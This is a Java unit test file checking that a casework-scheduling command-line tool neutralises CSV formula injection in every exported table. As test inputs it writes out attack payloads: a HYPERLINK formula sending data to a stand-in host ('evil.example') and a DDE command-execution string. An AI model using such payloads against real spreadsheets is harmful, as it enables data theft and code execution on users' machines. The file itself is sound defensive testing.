package org.duly.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.duly.timescales.Timescales.within;
import static org.duly.timescales.period.Periods.workingDays;
import static org.duly.workflows.policy.Rules.rule;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import java.io.IOException;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;
import org.duly.cli.handbook.Catalogue;
import org.duly.cli.handbook.CatalogueCsv;
import org.duly.cli.report.CaseloadFormat;
import org.duly.cli.report.CaseloadTally;
import org.duly.cli.report.Holder;
import org.duly.cli.report.ScheduleFormat;
import org.duly.cli.text.Csv;
import org.duly.timescales.Event;
import org.duly.timescales.Facts;
import org.duly.workflows.cases.CaseFacts;
import org.duly.workflows.engine.Engine;
import org.duly.workflows.engine.Schedule;
import org.duly.workflows.policy.Applicability;
import org.duly.workflows.policy.Area;
import org.duly.workflows.policy.Instrument;
import org.duly.workflows.policy.Policy;
import org.duly.workflows.policy.Rule;
import org.duly.workflows.policy.Spec;
import org.duly.workflows.policy.SpecSheet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * D3 (reliability findings): no CSV the command line writes lets a spreadsheet run a formula. A cell
 * that begins with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage return gets a single
 * quote before it, inside a quoted field (OWASP's rule, {@link Csv}); plain numbers, dates and spec ids
 * read back unchanged.
 */
class CsvInjectionTest {

    /** The attack of the findings file: a case id that opens a link carrying data away. */
    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak\",\"Open\")";

    record Referral(LocalDate date) {
    }

    record Visit(LocalDate date) {
    }

    private static final Event<Referral> REFERRAL = Event.of("+the referral", Referral.class, Referral::date);
    private static final Event<Visit> VISIT = Event.of("@the visit", Visit.class, Visit::date);

    /** A rule whose every free text begins with a formula character. */
    private static final Rule HOSTILE = rule("x.hostile", "=1+1 title")
            .implementing("=SPEC-1", "-SPEC-2")
            .citing("@document", "\tsection", "\rwords")
            .statutory(Instrument.of("+instrument"), "-provision")
            .due(within(workingDays(5)).of(REFERRAL))
            .metBy(VISIT)
            .interpretedAs("=note one")
            .interpretedAs("-note two")
            .appliesWhen(Applicability.of("@when it applies", (date, facts) -> true));

    private static final Policy POLICY = Policy.builder("=policy", "-1")
            .specSheet(SpecSheet.of(List.of(Spec.of("=SPEC-1", Area.of("=area"), "=words"),
                    Spec.of("-SPEC-2", Area.of("=area"), "-words"))))
            .rule(HOSTILE)
            .build();

    private static Schedule schedule(String caseId) {
        CaseFacts facts = new CaseFacts(caseId, Facts.of(new Referral(LocalDate.parse("2024-03-01"))), List.of());
        return Engine.create().evaluate(facts, POLICY, LocalDate.parse("2024-06-03"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", HYPERLINK, "=cmd|' /C calc'!A0"})
    void a_cell_a_spreadsheet_would_run_gets_a_quote_and_reads_back_as_text(String value) throws IOException {
        String field = Csv.field(value);
        assertThat(field).startsWith("\"'");
        assertThat(readBack("value\r\n" + field + "\r\n")).containsExactly(Map.of("value", "'" + value));
    }

    @Test
    void plain_numbers_dates_and_spec_ids_read_back_unchanged() throws IOException {
        List<String> values = List.of("-3", "-0.25", "0", "17", "0.7500", "2024-03-05", "CP-2", "cp.icpc", "C-0042",
                "MET_LATE", "a - b", " =1", "");
        StringBuilder csv = new StringBuilder(Csv.record(List.of("value")));
        values.forEach(value -> csv.append(Csv.record(List.of(value))));
        assertThat(readBack(csv.toString())).extracting(row -> row.get("value")).containsExactlyElementsOf(values);
        assertThat(Csv.field("-3")).isEqualTo("-3");
        // Not plain numbers, so possibly formulas: neutralised.
        assertThat(Csv.field("-3+1")).isEqualTo("\"'-3+1\"");
        assertThat(Csv.field("-1e5")).isEqualTo("\"'-1e5\"");
        assertThat(Csv.field("-")).isEqualTo("\"'-\"");
    }

    @Test
    void a_record_added_to_a_table_is_the_record_alone_each_field_quoted_as_it_needs() {
        List<String> fields = List.of("S-1", "a, b", "say \"so\"", "=1+1", "-3", "line\nbreak", "");
        StringBuilder table = new StringBuilder("header\r\n");
        assertThat(Csv.record(table, fields.toArray(String[]::new))).isSameAs(table);
        assertThat(table).hasToString("header\r\n" + Csv.record(fields));
        assertThat(Csv.record(fields)).isEqualTo("S-1,\"a, b\",\"say \"\"so\"\"\",\"'=1+1\",-3,\"line\nbreak\",\r\n");
    }

    @Test
    void a_hostile_case_id_is_neutralised_in_the_caseload_csv() throws IOException {
        String csv = CaseloadFormat.CSV.render(List.of(schedule(HYPERLINK), schedule("=1+1")));
        assertThat(csv).contains("\n\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Open\"\")\",")
                .contains("\n\"'=1+1\",");
        List<Map<String, String>> rows = readBack(csv);
        assertThat(rows).extracting(row -> row.get("case_id")).contains("'" + HYPERLINK, "'=1+1");
        assertNoFormula(rows);
    }

    @Test
    void every_free_text_column_of_the_schedule_csv_is_neutralised() throws IOException {
        List<Map<String, String>> rows = readBack(ScheduleFormat.CSV.render(schedule("=case")));
        assertThat(rows).isNotEmpty().allSatisfy(row -> assertThat(row)
                .containsEntry("rule_id", "x.hostile")
                .containsEntry("spec_ids", "'=SPEC-1;-SPEC-2")
                .containsEntry("title", "'=1+1 title"));
        assertNoFormula(rows);
    }

    @Test
    void every_free_text_column_of_every_caseload_csv_table_is_neutralised() throws IOException {
        // Team and worker ids cannot hold a space, but can start a formula.
        CaseloadTally tally = CaseloadTally.of(entry -> true, Optional.of(LocalDate.parse("2024-12-31")));
        tally.add(schedule("=case"), new Holder(Optional.of("=team"), Optional.of("@worker")));
        Map<String, String> tables = CaseloadFormat.tables(tally);
        assertThat(tables).containsOnlyKeys("status", "areas", "overdue", "timeliness", "teams", "workers", "due");
        List<Map<String, String>> rows = new java.util.ArrayList<>();
        for (String table : tables.values()) {
            rows.addAll(readBack(table));
        }
        assertThat(rows).extracting(row -> row.get("area")).contains("'=area");
        assertThat(rows).extracting(row -> row.get("title")).contains("'=1+1 title");
        assertThat(rows).extracting(row -> row.get("case_id")).contains("'=case");
        assertThat(rows).extracting(row -> row.get("team")).contains("'=team");
        assertThat(rows).extracting(row -> row.get("worker")).contains("'@worker");
        assertThat(rows).extracting(row -> row.get("reason")).filteredOn(java.util.Objects::nonNull).isNotEmpty()
                .allSatisfy(reason -> assertThat(reason).doesNotStartWith("="));
        assertNoFormula(rows);
    }

    @Test
    void every_free_text_column_of_the_rules_csv_is_neutralised() throws IOException {
        List<Map<String, String>> rows = readBack(CatalogueCsv.of(Catalogue.of(POLICY)));
        assertThat(rows).hasSize(1);
        assertThat(rows.get(0)).containsEntry("spec_ids", "'=SPEC-1;-SPEC-2")
                .containsEntry("title", "'=1+1 title")
                .containsEntry("area", "'=area")
                .containsEntry("citation_document", "'@document")
                .containsEntry("citation_section", "'\tsection")
                .containsEntry("citation_words", "'\rwords")
                .containsEntry("instrument", "'+instrument")
                .containsEntry("provision", "'-provision")
                .containsEntry("interpretation_notes", "'=note one\n-note two");
        assertNoFormula(rows);
    }

    @Test
    void the_shipped_policys_csvs_have_no_cell_that_needed_a_quote() throws IOException {
        // The quote is for hostile input only: the Derbyshire catalogue and the example cases never need it.
        Stream.of(CommandLineRun.duly("rules", "--format", "csv").out(),
                        CommandLineRun.duly("schedule", "../examples/cases/child-protection.json", "--as-of", "2024-09-10",
                                "--format", "csv").out(),
                        CommandLineRun.duly("caseload", "../examples/cases", "--as-of", "2024-09-10", "--format", "csv").out())
                .forEach(csv -> assertThat(csv).isNotEmpty().doesNotContain("\"'"));
    }

    static List<Map<String, String>> readBack(String csv) throws IOException {
        List<Map<String, String>> rows = new ArrayList<>();
        try (MappingIterator<Map<String, String>> it = new CsvMapper().readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader()).readValues(csv)) {
            it.forEachRemaining(rows::add);
        }
        return rows;
    }

    /** No cell, as a spreadsheet reads it, begins like a formula (a plain negative number is a number). */
    static void assertNoFormula(List<Map<String, String>> rows) {
        for (Map<String, String> row : rows) {
            for (String cell : row.values()) {
                assertThat(startsLikeFormula(cell)).as("cell %s", cell).isFalse();
            }
        }
    }

    /** The OWASP test, written out again here so that it does not merely repeat {@link Csv}. */
    static boolean startsLikeFormula(String cell) {
        return !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !cell.matches("-\\d+(\\.\\d+)?");
    }
}
